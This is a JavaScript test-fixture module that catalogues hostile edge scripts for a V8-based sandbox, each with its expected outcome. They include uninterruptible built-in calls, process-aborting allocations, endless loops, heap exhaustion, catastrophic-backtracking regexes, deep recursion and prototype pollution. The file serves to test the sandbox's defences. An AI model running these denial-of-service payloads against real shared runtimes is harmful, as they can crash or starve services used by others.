// Edge scripts that mean harm, one file each, and what becomes of them:
//   terminated  V8 ends the script when it is told to (over_cpu, over_heap, over_wall): limit + 50 ms of CPU
//   killed      V8 does not, or gives up the process: only the end of the process ends it: limit + 250 ms of wall time
//   thrown      the script gets an exception that it does not catch (threw, denied, start_failed, over_…)
//   harmless    it runs to its end, and nothing of what it tried has come true
// `outcomes`: those that are right; where processor time should run out, a busy machine may let the wall time run out first. `absent`: what must not be in the page that the visitor gets.
// Written for V8 10.2 with --jitless, 64 MB of heap and 50 ms of CPU.
const rows = [];
const outcomesOf = { terminated: ['over_cpu', 'over_heap', 'over_wall'], killed: ['killed', 'over_cpu', 'over_heap', 'over_wall'], thrown: ['threw'], harmless: ['ok'] };

// As the script of an app. `place`: in a handler of the body, with `element`; the same, async; in html(), with `rewriter`
// and `ctx`; while the module is evaluated; or the body is the whole module.
const places = {
  handler: (body) => `export default {\n  html(rewriter) {\n    rewriter.on('body', {\n      element(element) {\n${body}\n      },\n    });\n  },\n};\n`,
  async: (body) => `export default {\n  html(rewriter) {\n    rewriter.on('body', {\n      async element(element) {\n${body}\n      },\n    });\n  },\n};\n`,
  html: (body) => `export default {\n  html(rewriter, ctx) {\n${body}\n  },\n};\n`,
  load: (body) => `${body}\nexport default { html() {} };\n`,
  module: (body) => `${body}\n`,
};
export const appScript = ({ place, body }) => places[place](body);

// As a module for run-script, where there is no page; null for what needs one, or a global that is not there yet.
export function moduleScript({ place, body }) {
  if (place === 'load') return `${body}\nexport default () => {};\n`;
  if (place === 'module' || /\b(element|rewriter|ctx|HTMLRewriter|fetch|TextEncoder)\b/.test(body)) return null;
  return `export default ${place === 'async' ? 'async ' : ''}() => {\n${body}\n};\n`;
}

function row(name, expected, why, body, { place = 'handler', outcomes = outcomesOf[expected], absent = [] } = {}) {
  rows.push({ name, expected, outcomes: outcomes.includes('over_cpu') ? [...outcomes, 'over_wall'] : outcomes,  why, absent, place, body: body.replace(/^\n+|\s+$/g, '') });
}

// 1. Uninterruptible: built-in functions that never look whether they shall stop (the 21 of feasibility.md §2).
const huge = '{ length: 2 ** 53 - 1 }';
const builtin = 'a loop inside a built-in function over a length that is only claimed';
row('uninterruptible: indexOf', 'killed', builtin, `Array.prototype.indexOf.call(${huge}, 1);`);
row('uninterruptible: includes', 'killed', builtin, `Array.prototype.includes.call(${huge}, 1);`);
row('uninterruptible: lastIndexOf', 'killed', builtin, `Array.prototype.lastIndexOf.call(${huge}, 1);`);
row('uninterruptible: reverse', 'killed', builtin, `Array.prototype.reverse.call(${huge});`);
row('uninterruptible: fill', 'killed', 'the same, and it makes elements on its way', `Array.prototype.fill.call(${huge}, 0);`);
row('uninterruptible: unshift', 'killed', builtin, 'Array.prototype.unshift.call({ length: 2 ** 53 - 2 }, 1);');
row('uninterruptible: shift', 'killed', builtin, `Array.prototype.shift.call(${huge});`);
row('uninterruptible: splice', 'killed', builtin, `Array.prototype.splice.call(${huge}, 0, 1);`);
row('uninterruptible: slice', 'killed', builtin, 'Array.prototype.slice.call({ length: 2 ** 32 - 1 }, 0, 2 ** 32 - 1);');
row('uninterruptible: copyWithin', 'killed', builtin, `Array.prototype.copyWithin.call(${huge}, 0, 1);`);
row('uninterruptible: join', 'killed', builtin, "Array.prototype.join.call({ length: 2 ** 32 - 2 }, '');");
row('uninterruptible: forEach', 'killed', builtin, `Array.prototype.forEach.call(${huge}, () => {});`);
row('uninterruptible: concat of a spreadable', 'killed', builtin, '[].concat({ length: 2 ** 32 - 2, 0: 1, [Symbol.isConcatSpreadable]: true }, [1]);');
row('uninterruptible: String.raw', 'killed', builtin, 'String.raw({ raw: { length: 2 ** 53 - 1 } });');
row('uninterruptible: normalize', 'killed', 'sorting of combining marks is quadratic inside ICU', `
const marks = ['\\u0301', '\\u0323', '\\u031b', '\\u0308', '\\u0327'];
let text = 'a';
for (let i = 0; i < 20; ++i) text += marks[(i * 7) % 5];
text = text.repeat(50000).replaceAll('a', '');
('a' + text).normalize('NFC');`);
row('uninterruptible: Intl.Segmenter', 'killed', 'one call makes all segments of 3 MB', "[...new Intl.Segmenter('en').segment('ab '.repeat(2 ** 20))];");
row('uninterruptible: global replace', 'killed', 'one call over 32 MB', "'x'.repeat(2 ** 25).replace(/x/g, 'yy');");
row('uninterruptible: prototype chain', 'killed', 'each look-up walks 1e4 prototypes, and one call makes 1e7 of them', `
let object = {};
for (let i = 0; i < 1e4; ++i) object = Object.create(object);
object.length = 1e7;
Array.prototype.lastIndexOf.call(object, 1);`);
row('uninterruptible: JSON.parse', 'killed', 'one call over 45 MB', "JSON.parse('[' + '1,'.repeat(22e6) + '1]');");
row('uninterruptible: buffers that fail', 'terminated', 'each failure collects garbage, and its exception takes the place of the termination: uninterruptible unless the allocator ends the script before it refuses', 'for (;;) { try { new ArrayBuffer(1e6); } catch {} }', { outcomes: ['over_heap', 'over_cpu', 'killed'] });
row('uninterruptible: split', 'killed', 'one call makes 1e8 strings: 1.6 GB', "'x'.repeat(1e8).split('');");
// Long, and not to be interrupted either.
row('uninterruptible: JSON.stringify', 'killed', 'one call makes 480 million characters', "JSON.stringify('\\x01'.repeat(8e7));");
row('uninterruptible: indexOf of a true array', 'killed', 'the same with an array', 'new Array(2 ** 32 - 1).indexOf(1);');
row('uninterruptible: includes of a true array', 'harmless', 'V8 knows that an empty array has nothing', 'new Array(2 ** 32 - 1).includes(1);', { outcomes: ['ok', 'killed', 'over_cpu'] });
row('uninterruptible: join of a true array', 'harmless', 'V8 knows that an empty array has nothing', "new Array(2 ** 32 - 1).join('');", { outcomes: ['ok', 'killed', 'over_cpu'] });
row('uninterruptible: reverse of a true array', 'killed', 'the same with an array', 'new Array(2 ** 32 - 1).reverse();');
row('uninterruptible: forEach of a true array', 'killed', 'the same with an array', 'new Array(2 ** 32 - 1).forEach(() => {});');
row('uninterruptible: at load', 'killed', 'the same before there is a request', `Array.prototype.indexOf.call(${huge}, 1);`, { place: 'load', outcomes: ['killed', 'start_failed', 'over_cpu'] });
row('uninterruptible: in html()', 'killed', 'the same before the first byte', `Array.prototype.indexOf.call(${huge}, 1);`, { place: 'html' });
row('uninterruptible: at the end of the page', 'killed', 'the same when all bytes but the last have left', `rewriter.onDocument({ end() { Array.prototype.indexOf.call(${huge}, 1); } });`, { place: 'html' });
row('uninterruptible: in a text handler', 'killed', 'the same in the middle of a text', `rewriter.on('p', { text() { Array.prototype.indexOf.call(${huge}, 1); } });`, { place: 'html' });
row('uninterruptible: in a promise', 'killed', 'the same after the handler', `Promise.resolve().then(() => Array.prototype.indexOf.call(${huge}, 1));`);
row('uninterruptible: in a getter that a method asks', 'killed', 'the same inside a call into the runtime', `element.append('x', { get html() { return Array.prototype.indexOf.call(${huge}, 1); } });`);

// 2. The process gives up (the three of feasibility.md §2).
row('abort: Array.from', 'killed', 'a second limit is hit before anybody asks whether to stop: out of memory is fatal', 'Array.from({ length: 1e9 });');
row('abort: match', 'killed', 'a list of 134 million matches made in one call: out of memory is fatal (with 2^26 only if little more heap is granted)', "'x'.repeat(2 ** 27).match(/x/g);");
row('abort: sort', 'killed', 'invalid array length, a check that ends the process', 'Array.prototype.sort.call({ length: 2 ** 32 - 1 });');
row('abort: Array.from at load', 'killed', 'the same before there is a request', 'Array.from({ length: 1e9 });', { place: 'load', outcomes: ['killed', 'start_failed', 'over_heap', 'over_cpu'] });
row('abort: toSorted by hand', 'killed', 'as sort, by way of a proxy', 'Array.prototype.sort.call(new Proxy({}, { get: (_, key) => (key === "length" ? 2 ** 32 - 1 : undefined), has: () => true }));');
row('abort: Array.from an endless iterator', 'terminated', 'here JavaScript runs in between', 'Array.from({ [Symbol.iterator]: () => ({ next: () => ({ value: 1, done: false }) }) });');

// 3. Loops.
const loop = 'an endless loop looks at each turn';
row('loop: while', 'terminated', loop, 'while (true) {}');
row('loop: for with work', 'terminated', loop, 'let x = 0;\nfor (;;) x = (x * 31 + 7) % 1000003;');
row('loop: do, labelled', 'terminated', loop, 'outer: do { for (;;) continue outer; } while (true);');
row('loop: in finally', 'terminated', 'finally does not run for terminations', 'try { for (;;) {} } finally { for (;;) {} }');
row('loop: in catch', 'terminated', 'nor does catch', 'for (;;) { try { throw 1; } catch { continue; } }');
row('loop: catches everything', 'terminated', 'terminations are not caught', 'for (;;) { try { for (;;) {} } catch {} finally { try { for (;;) {} } catch {} } }');
row('loop: generator', 'terminated', loop, 'function* forever() { for (;;) yield 1; }\nfor (const x of forever()) x;');
row('loop: generator that resists return()', 'terminated', 'closing an iterator does not run on', 'function* g() { for (;;) { try { yield 1; } finally { continue; } } }\nfor (const x of g()) for (;;) {}');
row('loop: getter', 'terminated', loop, '({ get x() { for (;;) {} } }).x;');
row('loop: setter', 'terminated', loop, '({ set x(v) { for (;;) {} } }).x = 1;');
row('loop: toString', 'terminated', loop, '`${{ toString() { for (;;) {} } }}`;');
row('loop: valueOf', 'terminated', loop, '+{ valueOf() { for (;;) {} } };');
row('loop: Symbol.toPrimitive', 'terminated', loop, '`${{ [Symbol.toPrimitive]() { for (;;) {} } }}`;');
row('loop: toJSON', 'terminated', loop, 'JSON.stringify({ toJSON() { for (;;) {} } });');
row('loop: reviver', 'terminated', loop, "JSON.parse('[1]', () => { for (;;) {} });");
row('loop: comparator', 'terminated', loop, '[3, 2, 1].sort(() => { for (;;) {} });');
row('loop: replace callback', 'terminated', loop, "'x'.replace(/x/, () => { for (;;) {} });");
row('loop: prepareStackTrace', 'harmless', 'stacks are written by the engine alone', 'Error.prepareStackTrace = () => { for (;;) {} };\nnew Error().stack;');
row('loop: iterator next', 'terminated', loop, 'for (const x of { [Symbol.iterator]: () => ({ next() { for (;;) {} } }) }) x;');
row('loop: destructuring', 'terminated', loop, 'const [a] = { [Symbol.iterator]: () => ({ next: () => ({ get done() { for (;;) {} } }) }) };');
row('loop: Symbol.hasInstance', 'terminated', loop, '1 instanceof { [Symbol.hasInstance]() { for (;;) {} } };');
row('loop: Symbol.species', 'terminated', loop, 'const a = [1];\na.constructor = { get [Symbol.species]() { for (;;) {} } };\na.map((x) => x);');
row('loop: class static block', 'terminated', loop, 'class A { static { for (;;) {} } }');
row('loop: default parameter', 'terminated', loop, '((a = (() => { for (;;) {} })()) => a)();');
row('loop: at load', 'terminated', 'a module may not take longer than its limit either', 'for (;;) {}', { place: 'load', outcomes: ['over_cpu', 'start_failed'] });
row('loop: top-level await', 'terminated', 'nobody ever resolves it', 'await new Promise(() => {});', { place: 'load', outcomes: ['over_wall', 'start_failed', 'threw'] });
row('loop: in html()', 'terminated', loop, 'for (;;) {}', { place: 'html' });
row('loop: in a text handler', 'terminated', loop, "rewriter.on('p', { text() { for (;;) {} } });", { place: 'html' });
row('loop: in a comment handler', 'terminated', loop, 'rewriter.onDocument({ comments() { for (;;) {} } });', { place: 'html' });
row('loop: in an end tag handler', 'terminated', loop, 'element.onEndTag(() => { for (;;) {} });');
row('loop: in an end handler', 'terminated', loop, 'rewriter.onDocument({ end() { for (;;) {} } });', { place: 'html' });
row('loop: in the second element only', 'terminated', 'what the first call did stays', "let n = 0;\nrewriter.on('p', { element(p) { if (n++ > 0) for (;;) {} p.setAttribute('data-first', ''); } });", { place: 'html' });
row('loop: a getter of the handlers', 'terminated', loop, "rewriter.on('p', { get element() { for (;;) {} } });", { place: 'html' });
row('loop: a getter of the exports', 'terminated', loop, 'export default { get html() { for (;;) {} } };', { place: 'module', outcomes: ['over_cpu', 'start_failed'] });
row('loop: just below the limit, each time', 'harmless', '20 ms at each page: others must not starve', 'const until = Date.now() + 20;\nwhile (Date.now() < until) {}', { outcomes: ['ok', 'over_cpu'] });
row('loop: Date that stands still', 'terminated', 'a loop that waits for the clock', 'const start = Date.now();\nwhile (Date.now() - start < 1e9) {}');

// 4. Memory of every kind.
const heap = 'the heap limit ends it';
row('memory: array that grows', 'terminated', heap, 'const a = [];\nfor (;;) a.push({});');
row('memory: array of arrays', 'terminated', heap, 'let a = [];\nfor (;;) a = [a, a];');
row('memory: map', 'terminated', heap, 'const m = new Map();\nfor (let i = 0; ; ++i) m.set(i, {});');
row('memory: set', 'terminated', heap, 'const s = new Set();\nfor (let i = 0; ; ++i) s.add(`${i}`);');
row('memory: weak map', 'terminated', heap, 'const m = new WeakMap();\nconst keep = [];\nfor (;;) { const k = {}; keep.push(k); m.set(k, []); }');
row('memory: object with names', 'terminated', heap, 'const o = {};\nfor (let i = 0; ; ++i) o[`name${i}`] = i;');
row('memory: strings', 'terminated', heap, "const a = [];\nfor (let i = 0; ; ++i) a.push(`${i}`.padEnd(1000, 'x'));");
row('memory: string that doubles', 'thrown', 'no string is longer than 2^29', "let s = 'x';\nfor (;;) s += s;", { outcomes: ['threw', 'over_cpu', 'over_heap'] });
row('memory: flat string of half a gigabyte', 'terminated', 'one object far larger than the limit: it is there for a moment', "'x'.repeat(2 ** 29 - 25).charCodeAt(0);", { outcomes: ['killed', 'over_heap', 'over_cpu'] });
row('memory: padEnd', 'terminated', 'the same', "const s = 'ab'.padEnd(2 ** 29 - 25, 'xyz');\ns.charCodeAt(1e6);", { outcomes: ['killed', 'over_heap', 'over_cpu', 'ok'] });
row('memory: new Array and fill', 'terminated', 'a soft limit: 240 MB at once', 'new Array(3e7).fill(0);', { outcomes: ['over_heap', 'over_cpu', 'killed'] });
row('memory: array buffers', 'terminated', 'external memory counts', 'const a = [];\nfor (;;) a.push(new ArrayBuffer(1e6));');
row('memory: array buffers nobody keeps', 'terminated', 'external memory counts until it is collected', 'for (;;) new Uint8Array(8e6).fill(1);');
row('memory: one huge array buffer', 'thrown', 'more than the limit at once', 'new ArrayBuffer(2 ** 33);', { outcomes: ['threw', 'over_heap'] });
row('memory: typed array', 'thrown', 'the same', 'new Float64Array(2 ** 28);', { outcomes: ['threw', 'over_heap'] });
row('memory: WebAssembly.Memory', 'thrown', 'there is no WebAssembly', 'new WebAssembly.Memory({ initial: 60000 });');
row('memory: SharedArrayBuffer', 'thrown', 'there is none', 'new SharedArrayBuffer(1024);');
row('memory: BigInt', 'terminated', 'numbers of any size', 'let n = 3n;\nfor (;;) n *= n;', { outcomes: ['over_cpu', 'over_heap', 'threw'] });
row('memory: BigInt power', 'thrown', 'too large at once', '2n ** (2n ** 40n);', { outcomes: ['threw', 'over_cpu'] });
row('memory: BigInt to string', 'terminated', 'quadratic', 'const n = 1n << 30000000n;\nfor (;;) n.toString();');
row('memory: closures', 'terminated', heap, 'let f = () => 0;\nfor (;;) { const g = f; f = () => g; }');
row('memory: promises', 'terminated', heap, 'const a = [];\nfor (;;) a.push(new Promise(() => {}));');
row('memory: symbols', 'terminated', heap, 'const a = [];\nfor (let i = 0; ; ++i) a.push(Symbol.for(`s${i}`));');
row('memory: regular expressions', 'terminated', heap, 'const a = [];\nfor (let i = 0; ; ++i) { const r = new RegExp(`a{${i % 900}}b${i}`); r.test("a"); a.push(r); }');
row('memory: errors with stacks', 'terminated', heap, 'const a = [];\nError.stackTraceLimit = 1e6;\nfunction f(n) { return n ? f(n - 1) : new Error(); }\nfor (;;) a.push(f(500).stack);');
row('memory: globals', 'terminated', heap, 'for (let i = 0; ; ++i) globalThis[`g${i}`] = new Array(100).fill(i);');
row('memory: left for the next request', 'harmless', 'each page leaves 8 MB behind: the isolate is replaced', 'globalThis.kept ??= [];\nkept.push(new Array(1e6).fill(1.5));', { outcomes: ['ok', 'over_heap', 'over_cpu'] });
row('memory: Intl objects', 'terminated', 'memory of ICU is not in the heap', "const a = [];\nfor (let i = 0; ; ++i) a.push(new Intl.DateTimeFormat('en', { timeZone: 'UTC' }), new Intl.Collator('de'));", { outcomes: ['over_cpu', 'over_heap', 'killed'] });
row('memory: JSON of a deep object', 'thrown', 'the stack ends first', 'let o = {};\nfor (let i = 0; i < 1e5; ++i) o = { o };\nJSON.stringify(o);', { outcomes: ['threw', 'over_cpu'] });
row('memory: structuredClone', 'terminated', heap, 'let o = [1];\nfor (;;) o = structuredClone([o, o]);', { outcomes: ['over_cpu', 'over_heap', 'threw'] });
row('memory: TextEncoder', 'terminated', 'external memory counts', "const a = [];\nconst s = 'é'.repeat(1e6);\nfor (;;) a.push(new TextEncoder().encode(s));");
row('memory: console', 'harmless', 'what is logged is bounded', "for (let i = 0; i < 1000; ++i) console.log('x'.repeat(1000));", { outcomes: ['ok', 'over_output', 'over_cpu'] });
row('memory: console of a huge object', 'harmless', 'so is what is shown of an object', 'const o = {};\nfor (let i = 0; i < 3000; ++i) o[`k${i}`] = { i };\nconsole.log(o);', { outcomes: ['ok', 'over_cpu'] });
row('memory: timers', 'thrown', 'their number is bounded', 'for (let i = 0; i < 1e5; ++i) setTimeout(() => {}, 1000);', { outcomes: ['threw', 'over_cpu', 'ok'] });
row('memory: handlers', 'thrown', 'so is that of selectors', "for (let i = 0; i < 1e5; ++i) rewriter.on('p', { element() {} });", { place: 'html', outcomes: ['threw', 'over_cpu', 'over_heap'] });
row('memory: a long selector', 'thrown', 'selectors have a length', "rewriter.on('a'.repeat(1e6), {});", { place: 'html' });
row('memory: nested selectors', 'thrown', 'and a depth', "rewriter.on(':not('.repeat(1e4) + 'a' + ')'.repeat(1e4), {});", { place: 'html' });
row('memory: many end tag handlers', 'thrown', 'what waits for the end of an element is bounded', 'for (let i = 0; i < 1e6; ++i) element.onEndTag(() => {});', { outcomes: ['threw', 'over_cpu', 'over_heap', 'over_buffer'] });
row('memory: contents that wait', 'thrown', 'bytes held are bounded', "for (let i = 0; i < 1e5; ++i) element.append('x'.repeat(1e5));", { outcomes: ['threw', 'over_cpu', 'over_buffer', 'over_heap', 'over_output'] });
row('memory: a page a hundred times as long', 'thrown', 'what is added to a page is bounded', "rewriter.on('*', { element(e) { e.before('<!--' + 'x'.repeat(1e6) + '-->', { html: true }); } });", { place: 'html', outcomes: ['threw', 'over_output', 'over_buffer', 'over_cpu', 'over_heap'] });
row('memory: text never let go', 'harmless', 'collecting text of the whole page', "let text = '';\nrewriter.onDocument({ text(t) { text += t.text; t.remove(); } });", { place: 'html' });
row('memory: attributes', 'thrown', 'a tag has a size', "for (let i = 0; i < 1e5; ++i) element.setAttribute(`a${i}`, 'x'.repeat(1e4));", { outcomes: ['threw', 'over_cpu', 'over_heap', 'over_output', 'over_buffer'] });
row('memory: a stream without an end', 'terminated', 'an insert that never ends', 'element.append(new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(65536)); } }), { html: true });', { outcomes: ['over_output', 'over_cpu', 'over_wall', 'over_buffer', 'over_heap', 'threw'] });

// 5. Regular expressions.
const many = '`${"a".repeat(40)}!`';
row('regexp: nested quantifiers', 'harmless', 'after some backtracking the linear engine takes over', `/^(a*)*$/.test(${many});`, { outcomes: ['ok', 'over_cpu'] });
row('regexp: alternatives', 'harmless', 'the same', `/^(a|a)*$/.test(${many});`, { outcomes: ['ok', 'over_cpu'] });
row('regexp: back-reference', 'terminated', 'the linear engine knows no back-references', `/^(a*)*\\1$/.test("a".repeat(40) + "!");`);
row('regexp: lookahead', 'terminated', 'nor looking ahead', `/^(?=(a+)+b)(a*)*$/.test(${many});`);
row('regexp: lookbehind', 'terminated', 'nor looking behind', '/(?<=^y(x+x+)+)$/.test("x".repeat(45));', { outcomes: ['over_cpu'] });
row('regexp: over and over', 'terminated', 'each short, all endless', `for (;;) /(a*)*b/.test(${many});`);
row('regexp: a long one', 'terminated', 'long to compile', "new RegExp('(?:a|b)'.repeat(1e6));", { outcomes: ['threw', 'over_cpu', 'killed'] });
row('regexp: nested', 'thrown', 'the stack ends', "new RegExp('('.repeat(1e6) + ')'.repeat(1e6));", { outcomes: ['threw', 'over_cpu'] });
row('regexp: counted', 'harmless', 'counted loops of the linear engine are bounded', 'new RegExp("((a{1000}){1000}){1000}").test("a");', { outcomes: ['threw', 'over_cpu', 'ok'] });
row('regexp: exec by Symbol.replace', 'terminated', 'JavaScript in between', "const r = /x/g;\nr.exec = () => { for (;;) {} };\n'x'.replace(r, 'y');");
row('regexp: lastIndex that never moves', 'terminated', 'an endless list of empty matches', "const r = /x/g;\nr.exec = () => ({ index: 0, 0: '' });\n'x'.replace(r, 'y');", { outcomes: ['over_cpu', 'over_heap'] });
row('regexp: split at optional commas', 'harmless', 'quadratic, but short', "'a,'.repeat(1e5).split(/(?:,)*$/);", { outcomes: ['over_cpu', 'ok'] });

// 6. Recursion: the stack ends in a RangeError, and never in the process.
const stack = 'the stack has an end, and what comes is an exception';
row('recursion: calls', 'thrown', stack, 'function f() { f(); }\nf();');
row('recursion: caught and tried again', 'terminated', 'an endless loop in the end', 'function f() { try { f(); } catch { f(); } }\nf();');
row('recursion: many arguments', 'thrown', stack, 'function f(...a) { f(...a, ...a); }\nf(1);', { outcomes: ['threw', 'over_cpu', 'over_heap'] });
row('recursion: apply with a huge list', 'thrown', stack, 'Math.max.apply(null, new Array(1e7));', { outcomes: ['threw', 'over_heap', 'over_cpu'] });
row('recursion: getter', 'thrown', stack, 'const o = { get x() { return this.x; } };\no.x;');
row('recursion: proxy of proxies', 'thrown', stack, 'let p = {};\nfor (let i = 0; i < 1e5; ++i) p = new Proxy(p, {});\np.x;');
row('recursion: proxy that asks itself', 'thrown', stack, 'const p = new Proxy({}, { get(target, key, self) { return self[key]; } });\np.x;');
row('recursion: proxy as its own prototype', 'thrown', stack, 'const p = new Proxy({}, {});\nObject.setPrototypeOf(p, Object.create(p));\np.x;', { outcomes: ['threw', 'over_cpu'] });
row('recursion: toString', 'thrown', stack, 'const o = { toString() { return `${this}`; } };\n`${o}`;');
row('recursion: JSON.parse', 'terminated', 'it keeps a stack of its own in the heap', "JSON.parse('['.repeat(1e6) + ']'.repeat(1e6));", { outcomes: ['threw', 'over_cpu', 'over_heap'] });
row('recursion: toJSON', 'thrown', stack, 'const o = { toJSON() { return JSON.stringify(o); } };\nJSON.stringify(o);');
row('recursion: array toString', 'terminated', 'nested arrays take memory and time before the stack ends', 'let a = [];\nfor (let i = 0; i < 1e6; ++i) a = [a];\nString(a);', { outcomes: ['threw', 'over_cpu', 'over_heap', 'over_wall'] });
row('recursion: flat', 'thrown', stack, 'const a = [];\na.push(a);\na.flat(Infinity);', { outcomes: ['threw', 'over_cpu'] });
row('recursion: bound functions', 'harmless', 'bound functions are unrolled', 'let f = () => 1;\nfor (let i = 0; i < 1e5; ++i) f = f.bind(null);\nf();', { outcomes: ['threw', 'over_cpu', 'ok'] });
row('recursion: generators', 'thrown', stack, 'function* g() { yield* g(); }\n[...g()];');
row('recursion: async functions', 'thrown', stack, 'async function f() { await f(); }\nawait f();', { place: 'async', outcomes: ['threw', 'over_cpu', 'over_heap'] });
row('recursion: parser', 'thrown', 'a deep expression in the source is no script', `export default { html() { return ${'('.repeat(20000)}1${')'.repeat(20000)}; } };`, { place: 'module', outcomes: ['start_failed', 'threw', 'ok'] });
row('recursion: in an error handler', 'thrown', stack, 'class E extends Error { get message() { return String(this); } get name() { return String(this); } }\nthrow new E();', { outcomes: ['threw', 'over_cpu'] });
row('recursion: transform in a handler', 'thrown', 'rewriters in rewriters have a depth', "async function deeper() { await new HTMLRewriter().on('p', { element: deeper }).transform(new Response('<p>')).text(); }\nawait deeper();", { place: 'async', outcomes: ['threw', 'over_cpu', 'over_heap', 'over_buffer', 'over_wall'] });

// 7. Promises, microtasks, timers, waiting.
row('promise: endless microtasks', 'terminated', 'microtasks are JavaScript like other', 'const f = () => Promise.resolve().then(f);\nf();');
row('promise: queueMicrotask', 'terminated', 'the same', 'const f = () => queueMicrotask(f);\nf();');
row('promise: that doubles', 'terminated', 'the same, with memory', 'const f = () => { queueMicrotask(f); queueMicrotask(f); };\nf();');
row('promise: await without an end', 'terminated', 'the same', 'for (;;) await null;', { place: 'async' });
row('promise: endless chain of thenables', 'terminated', 'the same', 'const t = { then(done) { done(t); } };\nawait t;', { place: 'async' });
row('promise: a then that loops', 'terminated', 'JavaScript', 'await { then() { for (;;) {} } };', { place: 'async' });
row('promise: never resolved', 'terminated', 'wall time', 'await new Promise(() => {});', { place: 'async', outcomes: ['over_wall'] });
row('promise: a thenable handler that never ends', 'terminated', 'wall time', 'return { then() {} };', { outcomes: ['over_wall'] });
row('promise: async generator', 'terminated', 'microtasks', 'async function* g() { for (;;) yield 1; }\nfor await (const x of g()) x;', { place: 'async' });
row('promise: Promise.all of an endless list', 'terminated', 'JavaScript in between', 'Promise.all({ [Symbol.iterator]: () => ({ next: () => ({ value: 1, done: false }) }) });', { outcomes: ['over_cpu', 'over_heap', 'over_wall'] });
row('promise: a rejection nobody handles', 'thrown', 'reported once', 'Promise.reject(new Error("unhandled"));', { outcomes: ['threw', 'ok'] });
row('promise: a million rejections', 'terminated', 'reports are bounded', 'for (;;) Promise.reject(new Error("x"));');
row('promise: a constructor of its own', 'harmless', 'the runtime does not ask for it', 'Promise.prototype.constructor = { [Symbol.species]: class { constructor() { for (;;) {} } } };\nawait null;', { place: 'async', outcomes: ['ok', 'over_cpu', 'threw'] });
row('promise: Promise.prototype.then replaced', 'harmless', 'the runtime has its own', 'Promise.prototype.then = () => { for (;;) {} };', { outcomes: ['ok', 'over_cpu'] });
row('promise: FinalizationRegistry', 'harmless', 'callbacks after collection are JavaScript of the request or none', 'globalThis.r = new FinalizationRegistry(() => { for (;;) {} });\nfor (let i = 0; i < 1e4; ++i) r.register({}, i);', { outcomes: ['ok', 'over_cpu', 'threw'] });
row('timer: interval without an end', 'harmless', 'timers die with the request', 'setInterval(() => {}, 0);');
row('timer: a loop in a timer', 'terminated', 'charged to the request', 'await new Promise(() => setTimeout(() => { for (;;) {} }, 1));', { place: 'async' });
row('timer: a chain of timers', 'terminated', 'wall time', 'await new Promise(() => { const f = () => setTimeout(f, 0); f(); });', { place: 'async', outcomes: ['over_wall', 'over_cpu', 'threw'] });
row('timer: a string as code', 'thrown', 'no code from strings', "setTimeout('for (;;) {}', 0);", { outcomes: ['threw'] });
row('timer: odd delays', 'harmless', 'clamped', 'for (const d of [-1, NaN, Infinity, 2 ** 53, "x", {}]) clearTimeout(setTimeout(() => {}, d));');
row('timer: waitUntil without an end', 'harmless', 'the visitor does not wait, the budget ends it', 'ctx.waitUntil(new Promise(() => {}));', { place: 'html', outcomes: ['ok', 'over_wall'] });
row('timer: waitUntil with a loop', 'harmless', 'the page has left already', 'ctx.waitUntil((async () => { await null; await new Promise((go) => setTimeout(go, 5)); for (;;) {} })());', { place: 'html', outcomes: ['ok', 'over_cpu'] });
row('wait: Atomics.wait', 'thrown', 'nobody may block the thread', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);');
row('wait: while async text handlers hold the page', 'terminated', 'wall time runs while the script owes an answer', "rewriter.onDocument({ async text() { await new Promise((go) => setTimeout(go, 700)); } });", { place: 'html', outcomes: ['over_wall'] });
row('wait: a stream that never comes', 'terminated', 'wall time', 'element.append(new ReadableStream({ pull: () => new Promise(() => {}) }));', { outcomes: ['over_wall'] });
row('wait: a stream in drops', 'terminated', 'wall time', 'element.append(new ReadableStream({ async pull(c) { await new Promise((go) => setTimeout(go, 300)); c.enqueue(new Uint8Array([120])); } }));', { outcomes: ['over_wall'] });

// 8. Getters, proxies, prototypes: what the runtime's own JavaScript must not fall for.
const primordial = 'the runtime took what it needs before the script ran';
row('pollution: Object.prototype', 'harmless', primordial, "Object.prototype.html = true;\nObject.prototype.element = () => { for (;;) {} };\nelement.append('<i>');", { outcomes: ['ok', 'over_cpu'], absent: ['<i>'] });
row('pollution: Object.prototype getters', 'harmless', primordial, "Object.defineProperty(Object.prototype, 'html', { get() { throw new Error('asked'); } });\nelement.append('x', Object.create(null));", { outcomes: ['ok'] });
row('pollution: Array.prototype', 'harmless', primordial, "Array.prototype.push = Array.prototype[Symbol.iterator] = () => { throw new Error('asked'); };\nelement.setAttribute('a', 'b');");
row('pollution: an index on Array.prototype', 'harmless', primordial, "Object.defineProperty(Array.prototype, '0', { get() { throw new Error('asked'); }, set() { throw new Error('asked'); } });\nelement.append('x');");
row('pollution: Function.prototype.call', 'harmless', primordial, "Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => { throw new Error('asked'); };\nelement.append('x');");
row('pollution: Map and WeakMap', 'harmless', primordial, "Map.prototype.get = Map.prototype.set = WeakMap.prototype.get = WeakMap.prototype.set = () => { throw new Error('asked'); };\nelement.append('x');");
row('pollution: String.prototype', 'harmless', primordial, "for (const name of Object.getOwnPropertyNames(String.prototype)) if (name !== 'constructor' && typeof ''[name] === 'function') String.prototype[name] = () => { throw new Error('asked'); };\nelement.append('x');");
row('pollution: JSON, Math, Reflect', 'harmless', primordial, "JSON.stringify = Math.min = Reflect.apply = () => { throw new Error('asked'); };\nconsole.log({ a: 1 });");
row('pollution: Symbol.iterator of attributes', 'harmless', 'only the script itself is hurt', "Object.getPrototypeOf(element.attributes).next = () => ({ value: ['x', 'y'], done: true });\n[...element.attributes];");
row('pollution: the classes of the runtime', 'thrown', 'only this script of this install is hurt', "Object.getPrototypeOf(element).append = () => { throw new Error('mine'); };\nelement.append('x');");
row('pollution: globals deleted', 'harmless', primordial, 'for (const name of Object.getOwnPropertyNames(globalThis)) { try { delete globalThis[name]; } catch {} }');
row('pollution: globalThis frozen', 'harmless', primordial, 'Object.freeze(globalThis);', { outcomes: ['ok', 'threw'] });
row('pollution: everything frozen', 'harmless', primordial, 'for (const o of [Object, Array, Function, Promise, String, Error]) { Object.freeze(o); Object.freeze(o.prototype); }\nelement.append("x");');
row('pollution: __proto__ of the options', 'harmless', 'options are frozen', 'try { Object.setPrototypeOf(ctx.options, { evil: true }); } catch {}\ntry { ctx.options.__proto__.evil = 1; } catch {}', { place: 'html' });
row('pollution: Error.prepareStackTrace', 'harmless', 'the runtime writes its own stacks', "Error.prepareStackTrace = (e, frames) => { globalThis.frames = frames; return frames.map((f) => f.getFunction?.()); };\nnew Error('x').stack;");
